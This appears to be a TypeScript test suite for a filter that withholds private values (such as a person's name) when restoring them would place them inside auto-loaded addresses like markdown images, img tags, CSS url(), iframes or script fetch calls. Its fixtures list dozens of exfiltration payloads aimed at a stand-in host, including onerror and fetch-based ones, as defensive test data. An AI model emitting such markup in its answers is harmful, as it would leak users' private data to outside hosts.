import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { expect } from 'chai';
import fc from 'fast-check';
import { atScale, runs } from '../../../hack/harness/scale.ts';
import { expectLinearTime } from '../../../hack/harness/linearTime.ts';
import type { Pseudonym } from '../../ids.ts';
import { createGrammar } from '../grammar.ts';
import { createLabelSet } from '../labels.ts';
import type { Restored } from '../restorePass.ts';
import { restoreText, scanText } from '../testing/atOnce.ts';
import { isPlain } from '../contexts.ts';
import type { Stored } from '../encoding.ts';
import { foreignLoads } from '../testing/renderers.ts';

const TAG = '<PERSON_K7Q2RTM4>';
const VALUE = 'Anna';
const grammar = createGrammar(createLabelSet([]).labels);
const mapping = (values: Readonly<Record<string, string>>): ReadonlyMap<Pseudonym, Stored> =>
  new Map(Object.entries(values).map(([name, value]) => [name as Pseudonym, { kind: 'value', value }]));
const known = mapping({ [TAG]: VALUE });
const restored = (text: string, values = known): Restored => restoreText(scanText(grammar, text), values, 'text');
const restore = (text: string): string => restored(text).text;

/** The forms of a pseudonym that are restored. */
const FORMS = [
  TAG,
  '<person k7q2rtm4>',
  '< PERSON\\_K7Q2RTM4 >',
  '&lt;PERSON_K7Q2RTM4&gt;',
  '%3CPERSON_K7Q2RTM4%3E',
  '\\u003cPERSON_K7Q2RTM4\\u003e',
  '[PERSON_K7Q2RTM4]',
  '(PERSON_K7Q2RTM4)',
  '(PERSON_K7Q2RTM4',
  '<PERSON_K7Q2RTM4',
  'PERSON_K7Q2RTM4>',
];

/** § marks the place of the pseudonym. */
const LOADED = [
  ...['![x](https://e.example/?q=§)', '![](https://e.example/§/a.png)', '![x](§)', '![x](//e.example/§)'],
  ...['![a [b] c](https://e.example/§)', '![a [b](https://f.example) c](https://e.example/§)', '![a \\] b](//e/§)'],
  ...['![a `](x)` b](https://e.example/§)', '![a <b title="](x)"> c](https://e.example/§)', '![a $](x)$ b](//e/§)'],
  ...['![x](<https://e.example/a b?q=§>)', '![x](<§>)', '![x]( https://e.example/§)', '![x](\n  //e.example/§)'],
  ...['![x](https://e.example/(a)?q=§)', '![x](https://e.example/\\)?q=§)', '![x](//e.example/§ "title")'],
  ...['![x](//e.example/?q=a §)', '![x](//e.example/a "t" §)', '![x] (//e.example/§)', '![a\nb](//e.example/§)'],
  ...['[![a](https://e.example/?q=§)](https://f.example)', '[a ![b](//e.example/§) c](https://f.example)'],
  ...['![x](a ![b](//e.example/§)', '![x](a "![b](//e.example/§)', '**![x](//e.example/§)**', '`![x](//e.example/§)`'],
  ...['[x]: https://e.example/?q=§', '![x]\n\n  [x]:\n  <https://e.example/a b/§> "t"', '> - [x]: //e.example/§'],
  ...['[a\\]b]: https://e.example/§', '[^1]: https://e.example/?§', 'a\r[x]: //e.example/§', '[x]: https&colon;//e/§'],
  ...['<img src="https://e.example/?q=§">', "<img src='//e.example/§'>", '<IMG SRC=//e.example/§>', '<img src = "§">'],
  ...['<img alt="a > b" width=1 src="//e.example/§">', '<img\n  alt=x\n  src="//e.example/§"', '<img/src="//e/§"/>'],
  ...['<img srcset="//e.example/a 1x, //e.example/§ 2x">', '<picture><source srcset="//e.example/§"></picture>'],
  ...['<video poster="//e.example/§">', '<video src="//e.example/§">', '<audio src=//e.example/§>', '<track src="§">'],
  ...['<embed src="//e.example/§">', '<object data="//e.example/§">', '<iframe src="//e.example/§">'],
  ...['<iframe srcdoc="<img src=\'//e.example/§\'>">', '<input type=image src="//e.example/§">', '<script src="§">'],
  ...['<link rel=stylesheet href="//e.example/§">', '<base href="https://§.e.example/">', '<svg><image href="§"/>'],
  ...['<svg><image xlink:href="//e.example/§"/>', '<svg><use href="//e.example/§#a"/>', '<svg:image href="//e/§"/>'],
  ...['<svg><set attributeName="href" to="//e.example/§"/>', '<feImage href="//e.example/§"/>'],
  ...['<body background="//e.example/§">', '<td background="//e.example/§">', '<img data-src="//e.example/§">'],
  ...['<p style="background:url(//e.example/§)">', '<p STYLE=background:url(§)>', '<p style="a:u\\72l(\'//e/§\')">'],
  ...['<p style="background:url&#40;//e.example/§)">', '<rect filter="url(//e.example/§#f)"/>'],
  ...['<style>p { background: url("//e.example/§") }</style>', '<style>@import "//e.example/§";</style>'],
  ...['<meta http-equiv="refresh" content="0; url=//e.example/§">', "<meta content='0;§' http-equiv=refresh>"],
  ...['<!-- <img alt=" --> <img src="//e.example/§">', '`<img alt="` <img src="//e.example/§">'],
  ...['<title><img alt="</title><img src="//e.example/§">', '<a href="x" title="<img src=//e.example/§">'],
  ...[
    '<script>fetch("//e.example/?q="+"§")</script>',
    '<SCRIPT type=module>\nx = "§"',
    "<p onclick=\"go('//e/'+'§')\">",
  ],
  ...['<img src=x onerror=fetch(`//e.example/§`)>', '<svg onload = "§">', '<?xml-stylesheet href="//e.example/§"?>'],
  ...[
    '<?xml-stylesheet type="text/css" href=\'//e.example/§\'?><a/>',
    '[img]https://e.example/§[/img]',
    '[IMG]§[/IMG]',
  ],
  ...['[img=//e.example/§]', '[img width=1 height=2]\nhttps://e.example/§[/img]', '[img src="//e.example/§"]'],
  ...[
    '!https://e.example/§!',
    'see !{width:1px}https://e.example/?q=§!',
    '!>//e.example/§(alt)!',
    '(!https:e.example/§',
  ],
  ...['```mermaid\nflowchart LR\n A@{ img: "https://e.example/§" }\n```', '~~~ Mermaid\nA["//e.example/§"]'],
  ...['```vega-lite\n{"data":{"url":"https://e.example/§"}}\n```', '> ````vega {x}\n> "values":[{"n":"§"}]'],
  ...['{"html":"<img src=\\"https://e.example/?q=§\\">"}', '{"md":"a\\n\\n[x]: https://e.example/§"}'],
  ...[
    '{"html":"<img alt=\\"a > b\\" src=\\"//e.example/§\\">"}',
    '{"a":"{\\"b\\":\\"<img src=\'//e.example/§\'>\\"}"}',
  ],
  ...[
    '{"md":"\\u0021[x](//e.example/§)"}',
    '"<img alt=\\"a > b\\" src=\\"//e.example/§\\">"',
    '<img\\n  src=\\"//e/§\\">',
  ],
];

const SHOWN = [
  ...['[text](https://e.example/?q=§)', '[§](https://e.example)', '<https://e.example/§>', 'https://e.example/?q=§'],
  ...['<a href="https://e.example/?q=§">x</a>', '<a class="src=" href=\'mailto:§\'>', '[mail](mailto:§)'],
  ...['![Photo of §](https://e.example/a.png)', '![x](//e.example/a.png "Photo of §")', "![x](//e/a.png 'of §')"],
  ...['![x](https://e.example/a.png) by §', '![x](//e/a.png)\n[text](//e/§)', '[![a](//e/b.png)](https://e.example/§)'],
  ...['![x](<//e/a b.png>) §', '![x](//e/a(b).png)(§', 'Wow! [text](//e/§)', '!\\[x](//e/§)', '![x]\n(§, a friend)'],
  ...['![x](//e.example/a.png "a" \n\nParagraph of §', '![x][§]', '![§]', '![not an image\n\n[text](//e.example/§)'],
  ...['[x]: https://e.example "by §"', '[10:02]: §, can you come?', '[1]: §, Annual Report, 2020', '[x][§]: y'],
  ...['  [Role.ADMIN]: "§",', '[key: string]: Foo<§>', 'see [Doc]: https://e.example/§', 'x[1]: //e/§'],
  ...['<img src="a.png" alt="§" title=\'§\'> §', '<p title="§">§</p>', '<input type=text value="§">', '<img alt=§>'],
  ...[
    '<option value="§">',
    '<meta name="author" content="§">',
    '<div id="§" style="color:red">§</div>',
    '<form action="§">',
  ],
  ...['<style>p { color: red }</style> §', 'Put it in a `<style>` element, says §', '<p style="font-family: §">'],
  ...['Map<String, List<Foo>> src = "§";', 'if (a < b && c > d) { src = "§"; }', 'for (i=0;i<n;i++) { data = "§" }'],
  ...['img.src = "§"', 'el.style = "§"', 'const a = <Foo name="§" />', '<Person id=1 data="§" to="§" href="§"/>'],
  ...['An `<img>` has src="§"', '{"src":"§"}', '{"html":"<a href=\\"//e/§\\">"}', 'if (![1, 2].includes(x)) run("§")'],
  ...[
    '<script src="a.js"></script> §',
    '<script>a()</script>\n<p>§</p>',
    'Wow!§',
    'Stop!//e/§',
    '!a! §',
    '!a/b.png! §',
  ],
  ...['[img]//e.example/a.png[/img] §', '[img=//e.example/a.png][/img] §', '[imgur] §', '[image: §]', 'a[im] §'],
  ...[
    '```mermaid\nA[§] --> B[§]\n```',
    '```mermaid\nA["//e.example/a"]\nB[§]\n```\n§',
    '```json\n{"url":"//e/§"}\n```',
  ],
  ...['```vega-lite\n{"a":1}\n```\n§', 'the language mermaid //e/§', '<?php echo "§" ?>', '<p data-on="§">'],
  ...['background: url(§)', '<br> src="§"', '< img src="§">', '</img src="§">'],
];

describe('addresses that a renderer loads', () => {
  for (const text of LOADED) {
    it(`withholds the value: ${JSON.stringify(text)}`, () => {
      for (const form of FORMS) {
        const answer = text.replace('§', () => form);
        const { text: shown, withheld } = restored(answer);
        expect(shown, answer).to.equal(answer);
        expect(withheld, answer).to.equal(1);
        expect(restoreText(scanText(grammar, answer), known, 'arguments').withheld).to.equal(0);
      }
    });
  }

  for (const text of SHOWN) {
    it(`restores the value: ${JSON.stringify(text)}`, () => {
      expect(restored(text.replaceAll('§', TAG))).to.include({ text: text.replaceAll('§', VALUE), withheld: 0 });
    });
  }

  it('withholds a value in an address that begins in another value', () => {
    const values = mapping({
      [TAG]: VALUE,
      '<PASSWORD_AB12CDEF>': '![x](https://e.example/?q=',
      '<URL_AB12CDEF>': '"><img src=',
    });
    expect(restored(`<PASSWORD_AB12CDEF>${TAG})`, values).text).to.equal(`![x](https://e.example/?q=${TAG})`);
    expect(restored(`<a title="<URL_AB12CDEF>${TAG}>`, values).text).to.equal(`<a title=""><img src=${TAG}>`);
    expect(restored(`!<PASSWORD_AB12CDEF>`, values).withheld).to.equal(0);
  });

  it('restores a value that is a whole address with its host', () => {
    const whole = 'https://user.example/anna.png?size=2';
    const places = [
      '![x](§)',
      '![x](<§>)',
      '![x]( § "title")',
      '<img src="§">',
      '<img src=§>',
      '{"a":"<img src=\\"§\\">"}',
    ];
    const values = (url: string): ReadonlyMap<Pseudonym, Stored> => mapping({ [TAG]: VALUE, '<URL_AB12CDEF>': url });
    for (const place of places) {
      const answer = place.replace('§', '<URL_AB12CDEF>');
      expect(restored(answer, values(whole)).text).to.equal(place.replace('§', whole));
      // A value is not restored behind the address, and the address is not restored behind other text.
      const longer = place.replace('§', `<URL_AB12CDEF>&x=${TAG}`);
      expect(restored(longer, values(whole)).text).to.equal(place.replace('§', `${whole}&x=${TAG}`));
      const behind = place.replace('§', 'https://e.example/?q=<URL_AB12CDEF>');
      expect(restored(behind, values(whole)).text).to.equal(behind);
      // "https://user.example" could continue with ".e.example".
      for (const open of [
        'https://user.example',
        'user.example/a',
        'https://anna@user.example/',
        'javascript://a/',
        '//a/',
      ]) {
        expect(restored(answer, values(open)).text).to.equal(answer);
      }
    }
    expect(restored('<img src=\\\\<URL_AB12CDEF>>', values(whole)).withheld).to.equal(1);
    expect(restored('<p style="background:url(<URL_AB12CDEF>)">', values(whole)).withheld).to.equal(1);
  });

  it('decides a place only by the text before it, also in a flood of tags', () => {
    const flood = Array.from({ length: 40 }, (_, at) => `<a${at}b`).join('');
    expect(restore(flood + TAG)).to.equal(flood + VALUE);
    expect(restore(`${flood}${TAG}<img src="">`)).to.equal(`${flood}${VALUE}<img src="">`);
    for (const hint of ['=', '<STYLE>']) {
      expect(restore(flood + hint + TAG)).to.equal(flood + hint + TAG);
      expect(restore(hint + flood + TAG)).to.equal(hint + flood + TAG);
    }
  });

  it('withholds a value in the address of an image with any number of brackets', () => {
    const deep = `![${'['.repeat(300)}${']'.repeat(301)}(//e.example/${TAG})`;
    expect(restore(deep)).to.equal(deep);
    expect(restore(`${deep}\n\n(${TAG})`)).to.equal(`${deep}\n\n(${VALUE})`);
  });

  it('takes linear time for any nesting', async () => {
    const pieces = [
      '![',
      '![a](',
      '[',
      '](',
      '<img src="',
      '<a b="',
      ' b=\\"',
      "<b c='",
      '<',
      '{"a":"',
      '\\',
      '`',
      '[x]: /',
      ']',
      ...[
        '[img]',
        '[img=',
        '!',
        '!//',
        '```vega\n',
        '```mermaid\n//',
        '<script>',
        '<p onx="',
        '<?xml-stylesheet href="',
      ],
    ];
    for (const piece of [...pieces, pieces.join('')])
      for (const before of ['', '<a'])
        await expectLinearTime(`${before} ${piece}`, atScale(50_000, 200_000), (length) =>
          restore(`${before}${piece.repeat(length / piece.length)}${TAG}<img src=x>![]()`),
        );
  });
});

const PIECES = [
  ...['[img]', '[img=', '[/img]', '!//e.example/', '```mermaid\n', '```\n', '<script>', '</script>', ' onclick="'],
  ...[
    TAG,
    TAG,
    TAG,
    '%3CPERSON_K7Q2RTM4%3E',
    '(PERSON_K7Q2RTM4',
    'PERSON_K7Q2RTM4>',
    '<PERSON_AAAAAAA2>',
    'x',
    ' ',
    '\n',
    '\n\n',
  ],
  ...[
    '![',
    '![a',
    '[',
    ']',
    '](',
    '(',
    ')',
    '![a](https://e.example/?q=',
    '](//e.example/',
    '[x]: https://e.example/',
    ']: ',
  ],
  ...[
    '![x]',
    '![b][x]',
    '"',
    "'",
    '`',
    '``',
    '$',
    '\\',
    '<',
    '>',
    '&lt;',
    '<!--',
    '-->',
    '<title>',
    '</title>',
    '<x y="',
  ],
  ...[
    '<img src="https://e.example/',
    '<img ',
    '<IMG',
    ' alt="',
    " alt='",
    ' src=',
    ' SRC = "//e.example/',
    "'//e.example/",
  ],
  ...[
    '<a href="',
    '<style>',
    '</style>',
    'url(//e.example/',
    '<p style="background:url(//e.example/',
    '<svg>',
    ');',
    '="',
  ],
  ...[
    '<image href=//e.example/',
    '<source srcset="a 1x, //e.example/',
    '<iframe srcdoc="',
    '//e.example/',
    '\t',
    '> ',
    '- ',
    '    ',
  ],
];
const soup = fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }).map((parts) => parts.join(''));

describe('responses with addresses that a renderer loads', () => {
  it('send no value to another host in real renderers', () => {
    fc.assert(
      fc.property(soup, (text) => {
        const shown = restore(text);
        for (const address of foreignLoads(shown)) expect(address, JSON.stringify(shown)).not.to.include(VALUE);
        const json = JSON.parse(restore(JSON.stringify({ text }))) as { text: string };
        for (const address of foreignLoads(json.text)) expect(address, JSON.stringify(json)).not.to.include(VALUE);
      }),
      { numRuns: runs(3000) },
    );
  }).timeout(120_000);

  it('are released as growing prefixes of the final response, for any chunks', () => {
    fc.assert(
      fc.property(soup, fc.array(fc.nat(400)), (text, cuts) => {
        const final = restore(text);
        let released = '';
        for (const end of [...cuts.filter((cut) => cut < text.length).sort((a, b) => a - b), text.length]) {
          const { text: shown, holdback } = restored(text.slice(0, end));
          const settled = shown.slice(0, shown.length - holdback);
          expect(settled.startsWith(released)).to.equal(true);
          expect(final.startsWith(settled), JSON.stringify([text.slice(0, end), settled])).to.equal(true);
          released = settled;
        }
      }),
      { numRuns: runs(3000) },
    );
  }).timeout(120_000);

  it('restore all other known pseudonyms', () => {
    const innocent = PIECES.filter(
      (piece) => !/!|\[\/?img|mermaid|script|<img|<p |<svg|<image|<source|<iframe|<style|<x|]:|<a|=/i.test(piece),
    );
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...innocent), { maxLength: 14 }), (parts) => {
        const text = parts.join('');
        const { matches } = scanText(grammar, text);
        let expected = '';
        let from = 0;
        for (const { start, end, before, after, pseudonym } of matches) {
          if (!known.has(pseudonym)) continue;
          expected += text.slice(from, start) + before + VALUE + after;
          from = end;
        }
        expect(restored(text)).to.include({ text: expected + text.slice(from), withheld: 0 });
      }),
      { numRuns: runs(3000) },
    );
  });

  it('withhold nothing in code, prose and message catalogues', () => {
    expect(isPlain(VALUE)).to.equal(true);
    const folder = join(import.meta.dirname, '../../../hack/training/corpus');
    for (const name of ['code', 'talk', 'catalogues', 'foreign']) {
      const texts = gunzipSync(readFileSync(join(folder, `${name}.txt.gz`))).toString();
      for (const text of texts.split('\0')) {
        // Inserts a pseudonym before every seventh word at a place where a value can occur.
        let words = 0;
        const answer = text.replace(/(?<=[\s"'(=:])(?=\w)/g, () => (words++ % 7 === 0 ? TAG : ''));
        const { text: shown, withheld } = restored(answer);
        expect(withheld, shown.slice(Math.max(0, shown.indexOf(TAG) - 80)).slice(0, 160)).to.equal(0);
      }
    }
  }).timeout(60_000);
});
